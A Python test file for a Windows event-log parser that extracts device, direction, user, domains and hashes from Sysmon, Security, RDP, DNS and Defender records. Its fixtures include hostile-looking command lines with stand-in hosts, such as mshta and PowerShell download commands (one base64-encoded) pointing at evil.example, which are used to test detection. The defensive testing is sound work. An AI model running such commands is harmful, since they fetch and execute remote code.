"""Meaning of Windows events: device, opening side, user, hash."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lamsach.logs.base import FileContext
from lamsach.logs.mappings.script_mentions import mentions
from lamsach.logs.mappings.windows.contacts import answers_of
from lamsach.logs.mappings.windows.events import event_of, labels
from lamsach.logs.mappings.windows.json import record_of_json
from lamsach.logs.mappings.windows.record import WindowsRecord, machine_address, machine_of, user_of
from lamsach.logs.mappings.windows.services import packet_answers
from lamsach.logs.text.times.loose_times import LooseTimes
from lamsach.model import Action, Event, EventKind, LeaseAction

SECURITY, SYSMON = "Microsoft-Windows-Security-Auditing", "Microsoft-Windows-Sysmon"


def event(event_id: int, provider: str, unnamed: tuple[str, ...] = (), **data: str) -> Event:
    record = WindowsRecord(
        event_id, provider, "", "SRV-01", None, {k.lower(): v for k, v in data.items()}, unnamed
    )
    return event_of(record, FileContext(), LooseTimes(FileContext()))


@pytest.mark.parametrize(
    "data, device, inbound",
    [
        ({"Initiated": "true", "SourceIp": "10.20.0.31", "DestinationIp": "203.0.113.7"}, "10.20.0.31",
         False),
        ({"Initiated": "true", "SourceIp": "10.20.0.31", "DestinationIp": "10.20.0.9"}, "10.20.0.31", False),
        ({"Initiated": "false", "SourceIp": "203.0.113.7", "DestinationIp": "10.20.0.31"}, "10.20.0.31",
         True),
        ({"Initiated": "false", "SourceIp": "10.20.0.31", "DestinationIp": "203.0.113.7"}, "10.20.0.31",
         True),
        ({"Initiated": "false", "SourceIp": "10.20.0.9", "SourcePort": "51000", "DestinationIp": "10.20.0.31",
            "DestinationPort": "445"},
         "10.20.0.31", True),
        ({"Initiated": "false", "SourceIp": "10.20.0.31", "SourcePort": "445", "DestinationIp": "10.20.0.9",
            "DestinationPort": "51000"},
         "10.20.0.31", True),
        ({"Initiated": "true", "SourceIp": "127.0.0.1", "DestinationIp": "127.0.0.1"}, None, False),
        ({"SourceIp": "203.0.113.7", "DestinationIp": "10.20.0.31"}, "10.20.0.31", False),
    ],
)  # fmt: skip
def test_own_side_of_sysmon_connections(data, device, inbound):
    found = event(3, SYSMON, **data)
    assert (found.device_ip, found.inbound, found.device_name) == (device, inbound, "SRV-01")
    assert (found.source_ip, found.destination_ip) == (data["SourceIp"], data["DestinationIp"])


@pytest.mark.parametrize(
    "event_id, direction, source, device, inbound, action",
    [
        (5156, "%%14593", "10.20.0.31", "10.20.0.31", False, Action.ALLOWED),
        (5156, "%%14592", "10.20.0.31", "10.20.0.31", True, Action.ALLOWED),
        (5157, "%%14593", "10.20.0.31", "10.20.0.31", False, Action.BLOCKED),
        (5152, "%%14592", "10.20.0.31", "10.20.0.31", True, Action.BLOCKED),
        (5156, "%%14592", "239.255.255.250", None, True, Action.ALLOWED),
        (5156, "Inbound", "10.20.0.31", "10.20.0.31", True, Action.ALLOWED),
    ],
)
def test_filtering_platform_states_its_own_side_first(event_id, direction, source, device, inbound, action):
    found = event(
        event_id,
        SECURITY,
        Direction=direction,
        SourceAddress=source,
        DestAddress="203.0.113.7",
        SourcePort="3389",
    )
    assert (found.device_ip, found.inbound, found.action) == (device, inbound, action)


@pytest.mark.parametrize("initiated, device", [(True, "192.0.2.1"), (False, "192.0.2.2")])
def test_initiated_is_a_boolean_in_json(initiated, device):
    """evtx_dump writes `"Initiated": false`."""
    system = {
        "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
        "EventID": 3,
        "Computer": "PC-17",
    }
    data = {
        "Initiated": initiated,
        "SourceIp": "192.0.2.1",
        "SourcePort": 52543,
        "DestinationIp": "192.0.2.2",
        "DestinationPort": 445,
    }
    record = record_of_json({"Event": {"System": system, "EventData": data}})
    found = event_of(record, FileContext("a.json"), LooseTimes(FileContext("a.json")))
    assert (found.device_ip, found.inbound) == (device, not initiated)


def test_bound_port_has_no_other_side():
    found = event(5158, SECURITY, SourceAddress="0.0.0.0", SourcePort="3389")
    assert (found.source_ip, found.source_port, found.destination_ip) == ("0.0.0.0", 3389, None)
    assert (found.device_ip, found.device_name) == (None, "SRV-01")


def test_incoming_packet_states_its_sender_first():
    ends = {
        "SourceAddress": "10.20.0.9",
        "SourcePort": "51000",
        "DestAddress": "10.20.0.31",
        "DestPort": "445",
    }
    assert event(5152, SECURITY, Direction="%%14592", **ends).device_ip == "10.20.0.31"
    assert event(5152, SECURITY, Direction="%%14593", **ends).device_ip == "10.20.0.9"


@pytest.mark.parametrize(
    "found",
    [
        event(5156, SECURITY, Direction="%%14593", SourceAddress="0.0.0.0", SourcePort="68",
            DestAddress="255.255.255.255", DestPort="67"),
        event(3, SYSMON, Initiated="true", SourceIp="0.0.0.0", SourcePort="68",
            DestinationIp="255.255.255.255", DestinationPort="67"),
    ],
)  # fmt: skip
def test_machine_without_an_address(found):
    assert (found.source_ip, found.source_port, found.destination_ip) == ("0.0.0.0", 68, "255.255.255.255")
    assert (found.device_ip, found.device_name) == (None, "SRV-01")


@pytest.mark.parametrize(
    "event_id, data, device_ip, name, user, action",
    [
        (4624, {"TargetUserName": "minh.tran", "IpAddress": "10.20.0.31", "WorkstationName": "PC-MINH"},
         "10.20.0.31", "PC-MINH", "minh.tran", Action.ALLOWED),
        (4624, {"TargetUserName": "PC-MINH$", "IpAddress": "::ffff:10.20.0.31"}, "10.20.0.31", "PC-MINH",
         None, Action.ALLOWED),
        (4624, {"TargetUserName": "SYSTEM", "TargetDomainName": "NT AUTHORITY", "IpAddress": "-"}, None,
         "SRV-01", None, Action.ALLOWED),
        (4624, {"TargetUserName": "minh.tran", "IpAddress": "::1"}, None, "SRV-01", "minh.tran",
         Action.ALLOWED),
        (4625, {"TargetUserName": "admin", "IpAddress": "203.0.113.7", "WorkstationName": "kali"}, None,
         "SRV-01", "admin", Action.BLOCKED),
        (4768, {"TargetUserName": "minh.tran", "IpAddress": "10.20.0.31", "Status": "0x6"}, "10.20.0.31",
         None, "minh.tran", Action.BLOCKED),
        (4776, {"TargetUserName": "minh.tran", "Workstation": "PC-MINH", "Status": "0x0"}, None, "PC-MINH",
         "minh.tran", Action.ALLOWED),
        (4776, {"TargetUserName": "minh.tran", "Workstation": "\\\\PC-MINH", "Status": "0xc000006a"}, None,
         "PC-MINH", "minh.tran", Action.BLOCKED),
        (4778, {"AccountName": "minh.tran", "ClientName": "PC-MINH", "ClientAddress": "10.20.0.31"},
         "10.20.0.31", "PC-MINH", "minh.tran", Action.ALLOWED),
        (5140, {"SubjectUserName": "minh.tran", "IpAddress": "10.20.0.31", "IpPort": "50000"}, "10.20.0.31",
         None, "minh.tran", Action.ALLOWED),
        (4771, {"TargetUserName": "minh.tran", "IpAddress": "10.20.0.31"}, "10.20.0.31", None, "minh.tran",
         Action.BLOCKED),
        (4648, {"SubjectUserName": "a", "TargetUserName": "minh.tran", "IpAddress": "-"}, None, "SRV-01",
         "minh.tran", Action.ALLOWED),
    ],
)  # fmt: skip
def test_logons_state_client_and_user(event_id, data, device_ip, name, user, action):
    found = event(event_id, SECURITY, **data)
    at_the_console = found.device_name == "SRV-01" and not found.inbound
    assert (found.kind, found.observer) == (EventKind.LOGON, None if at_the_console else "SRV-01")
    assert (found.device_ip, found.device_name, found.user, found.action) == (device_ip, name, user, action)
    assert found.inbound is (found.source_ip == "203.0.113.7")


@pytest.mark.parametrize(
    "event_id, provider, data, wanted",
    [
        (1149, "Microsoft-Windows-TerminalServices-RemoteConnectionManager",
         {"Param1": "minh.tran", "Param2": "UNIT", "Param3": "10.20.0.31"},
         {"kind": EventKind.LOGON, "device_ip": "10.20.0.31", "user": "minh.tran", "observer": "SRV-01"}),
        (25, "Microsoft-Windows-TerminalServices-LocalSessionManager",
         {"User": "UNIT\\minh.tran", "Address": "LOCAL"},
         {"device_ip": None, "device_name": "SRV-01", "user": "UNIT\\minh.tran"}),
        (131, "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS",
         {"ConnType": "TCP", "ClientIP": "203.0.113.7:51000"},
         {"source_ip": "203.0.113.7", "source_port": 51000, "device_name": "SRV-01", "inbound": True}),
        (140, "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS", {"IPString": "203.0.113.7"},
         {"source_ip": "203.0.113.7", "action": Action.BLOCKED}),
        (1102, "Microsoft-Windows-TerminalServices-ClientActiveXCore RDPClient", {"Value": "203.0.113.7"},
         {"destination_ip": "203.0.113.7", "device_name": "SRV-01"}),
        (1024, "Microsoft-Windows-TerminalServices-RDPClient", {"Value": "rdp.evil.example"},
         {"domain": "rdp.evil.example"}),
        (6273, SECURITY, {"SubjectUserName": "UNIT\\minh.tran", "CallingStationID": "02-00-5E-10-00-50"},
         {"device_mac": "02:00:5e:10:00:50", "user": "UNIT\\minh.tran", "action": Action.BLOCKED}),
        (6272, SECURITY,
         {"SubjectUserName": "host/PC$", "CallingStationID": "10.20.0.31", "SubjectMachineName": "UNIT\\PC$"},
         {"device_ip": "10.20.0.31", "device_name": "PC", "user": None, "action": Action.ALLOWED}),
        (10, "Microsoft-Windows-DHCP-Server",
         {"IPAddress": "10.20.0.50", "MACAddress": "02005E100050", "HostName": "PC-LAN"},
         {"kind": EventKind.LEASE, "device_ip": "10.20.0.50", "device_mac": "02:00:5e:10:00:50",
          "device_name": "PC-LAN", "action": LeaseAction.ASSIGNED}),
        (1003, "Microsoft-Windows-Dhcp-Client", {"HWAddress": "02005E100050"},
         {"kind": EventKind.OTHER, "device_name": "SRV-01"}),
        (3006, "Microsoft-Windows-DNS-Client", {"QueryName": "bot-c2.xyz"},
         {"domain": "bot-c2.xyz", "response": False, "device_name": "SRV-01"}),
        (3020, "Microsoft-Windows-DNS-Client", {"QueryName": "bot-c2.xyz", "QueryResults": "203.0.113.7;"},
         {"domain": "bot-c2.xyz", "response": True, "answers": ("203.0.113.7",)}),
        (261, "Microsoft-Windows-DNSServer",
         {"InterfaceIP": "10.20.0.1", "Source": "198.51.100.53", "QNAME": "bot-c2.xyz."},
         {"forwarded": True, "response": True, "domain": "bot-c2.xyz", "source_ip": "198.51.100.53"}),
        (60, "Microsoft-Windows-Bits-Client", {"url": "https://evil.example/a"},
         {"kind": EventKind.WEB, "domain": "evil.example"}),
        (1116, "Microsoft-Windows-Windows Defender",
         {"Path": "webfile:_C:\\a|http://evil.example/a|pid:1", "Action Name": "Not Applicable"},
         {"kind": EventKind.FILE, "url": "http://evil.example/a", "domain": "evil.example",
          "action": Action.UNKNOWN}),
        (1126, "Microsoft-Windows-Windows Defender", {"Destination": "evil.example"},
         {"domain": "evil.example", "action": Action.BLOCKED}),
        (7, SYSMON, {"ImageLoaded": "C:\\a.dll", "Hashes": "MD5=0123456789ABCDEF0123456789ABCDEF"},
         {"hashes": ("0123456789abcdef0123456789abcdef",)}),
        (26, SYSMON, {"Hashes": "IMPHASH=0123456789ABCDEF0123456789ABCDEF"}, {"hashes": ()}),
        (4688, SECURITY, {"CommandLine": "mshta http://evil.example/x.hta"},
         {"url": "http://evil.example/x.hta", "device_name": "SRV-01"}),
    ],
)  # fmt: skip
def test_fields_of_other_events(event_id, provider, data, wanted):
    found = event(event_id, provider, **data)
    assert {name: getattr(found, name) for name in wanted} == wanted


def test_the_address_of_a_vpn_client():
    found = event(20274, "RemoteAccess", ("{1}", "UNIT\\minh.tran", "VPN2-1", "10.20.9.5"))
    assert (found.kind, found.device_ip, found.user) == (EventKind.LOGON, "10.20.9.5", "UNIT\\minh.tran")


def test_answers_of_a_question():
    assert answers_of("type:  5 cdn.evil.example;::ffff:203.0.113.7;2001:db8::7;type:  16 text a;-;;bad") == (
        "cdn.evil.example",
        "203.0.113.7",
        "2001:db8::7",
    )
    assert answers_of("type: " * 1000) == ()
    assert packet_answers("0x00") == packet_answers("no hex") == ()


@pytest.mark.parametrize(
    "name, user",
    [("minh.tran", "minh.tran"), ("UNIT\\minh.tran", "UNIT\\minh.tran"), ("\\minh", "minh"),
     ("NT AUTHORITY\\SYSTEM", None), ("AUTORITE NT\\Système", None),
     ("PC$", None), ("PC$@UNIT.EXAMPLE", None), ("-", None), (None, None), ("Window Manager\\DWM-7", None),
     ("a" * 300, None)],
)  # fmt: skip
def test_an_account_is_a_user_or_none(name, user):
    assert user_of(name) == user


def test_an_account_is_a_machine_or_none():
    assert [machine_of(name) for name in ("PC$", "UNIT\\PC$", "PC$@UNIT.EXAMPLE", "minh", "$", None)] == [
        "PC",
        "PC",
        "PC",
        None,
        None,
        None,
    ]
    assert [
        machine_address(ip) for ip in ("10.20.0.31", "127.0.0.1", "ff02::1", "10.20.0.255", "::", None)
    ] == ["10.20.0.31", None, None, None, None, None]


@pytest.mark.parametrize(
    "text",
    [
        (
            "A\r\nNew Logon:\r\n\tAccount Name:\t\tminh\r\nNetwork Information:\r\n"
            "\tSource Network Address:\t10.20.0.31\r\n\tSource Port:\t\t5"
        ),
        (
            "A New Logon:  Account Name:  minh  Network Information:  Source Network Address:  10.20.0.31  "
            "Source Port:  5"
        ),
        (
            "A\\nNew Logon:\\n\\tAccount Name:\\t\\tminh\\nNetwork Information:\\n\\tSource Network "
            "Address:\\t10.20.0.31\\n\\tSource Port:\\t\\t5\\n"
        ),
        (
            "A#015#012New Logon:#015#012#011Account Name:#011minh#015#012Network Information:#012#011Source "
            "Network Address:#01110.20.0.31#012#011Source Port:#0115"
        ),
        (
            "Đăng nhập mới:\n\tTên tài khoản:\tminh\nThông tin mạng:\n\tĐịa chỉ mạng nguồn:\t10.20.0.31\n"
            "\tCổng nguồn:\t5"
        ),
        (
            "Subject:\n\tAccount Name:\tSRV$\nNew Logon:\n\tAccount Name:\tminh\nNetwork Information:\n"
            "\tSource Network Address:\t10.20.0.31\n\tSource Port:\t5"
        ),
    ],
)
def test_the_rendered_text(text):
    found = labels(text)
    assert (found["targetusername"], found["ipaddress"], found["sourceport"]) == ("minh", "10.20.0.31", "5")


@given(st.text(max_size=200))
def test_arbitrary_rendered_text(text):
    assert all(name and value for name, value in labels(text).items())


def encoded(command: str) -> str:
    return base64.b64encode(command.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    "text, found",
    [
        ("iwr 'http://evil.example/a.ps1' -OutFile a.ps1", ("http://evil.example/a.ps1",)),
        ("ping 203.0.113.7; nslookup bot-c2.xyz", ("203.0.113.7", "bot-c2.xyz")),
        ("[System.Net.WebClient]::new(); C:\\a.exe; b.dll", ()),
        ("1.2.3 999.1.1.1 a..b", ()),
        (
            "curl http://EVIL.example/A http://evil.example/b.",
            ("http://EVIL.example/A", "http://evil.example/b"),
        ),
        (f"powershell -nop -enc {encoded('iwr http://evil.example/z')}", ("http://evil.example/z",)),
        ("powershell -enc ====", ()),
        ("", ()),
    ],
)
def test_values_in_a_script_are_mentioned(text, found):
    assert mentions(text) == found


def test_mentions_are_limited_and_fast():
    assert len(mentions(" ".join(f"a{n}.example" for n in range(100_000)))) == 64
    for piece in ("http://", "a.", "-enc A", "."):
        mentions(piece * 100_000)


@given(st.text(max_size=200))
def test_mentions_of_any_text(text):
    assert all(value for value in mentions(text))
